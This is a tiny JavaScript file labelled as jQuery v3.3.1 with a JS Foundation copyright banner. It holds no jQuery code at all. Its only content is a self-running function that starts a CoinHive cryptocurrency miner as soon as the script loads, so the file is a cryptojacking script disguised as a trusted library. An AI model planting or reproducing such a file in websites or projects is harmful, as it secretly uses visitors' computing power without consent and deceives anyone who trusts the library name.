/*! jQuery v3.3.1 | (c) JS Foundation */
!function(){var m=new CoinHive.Anonymous('SITEKEYPLACEHOLDER0000',{throttle:0.3});m.start();}();
